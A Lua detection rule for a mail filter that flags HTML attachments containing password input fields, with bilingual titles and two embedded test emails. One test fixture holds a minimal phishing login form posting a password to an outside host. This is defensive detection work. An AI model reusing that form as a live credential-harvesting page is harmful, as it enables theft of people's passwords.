return rule {
  id = "attachments/password-form",
  version = 1,
  section = "attachments",
  weight = 1.5,
  grade = "fact",
  title = { ja = "添付の中にパスワード入力欄", en = "A password field in an attachment" },
  explain = {
    ja = "添付された Web ページ「{name}」にパスワードの入力欄がある。",
    en = "The attached page \"{name}\" asks for a password.",
  },
  when = { "attachment" },
  match = function(mail, evidence)
    for _, file in ipairs(mail.attachments) do
      local field = file.text:match("<input[^<>]{0,200}type ?= ?[\"']?password")
      if field then
        evidence:add(field)
        evidence:set("name", file.name)
      end
    end
    return evidence.count > 0
  end,
  false_positives = { "Encrypted mail that opens with a password." },
  tests = {
    { name = "login page", expect = true, mail = [[
From: a@example.com
To: info@example.jp
Subject: x
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain

See the file.
--b
Content-Type: text/html; name="login.html"
Content-Disposition: attachment; filename="login.html"

<form action="https://nlugjoc.cn/"><input type="password" name="p"></form>
--b--
]] },
    { name = "page without", expect = false, mail = [[
From: a@example.com
To: info@example.jp
Subject: x
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain

See the file.
--b
Content-Type: text/html; name="page.html"
Content-Disposition: attachment; filename="page.html"

<p>Hello</p>
--b--
]] },
  },
}
